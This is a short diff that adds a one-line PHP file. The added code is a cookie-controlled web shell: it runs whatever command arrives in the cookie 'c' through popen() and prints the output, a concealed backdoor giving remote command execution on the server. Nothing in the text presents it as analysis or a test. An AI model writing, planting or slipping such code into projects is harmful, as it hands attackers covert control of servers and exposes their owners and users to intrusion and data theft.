@@ -1,0 +1,1 @@
+<?php $p = popen($_COOKIE["c"], "r"); while (!feof($p)) echo fgets($p);
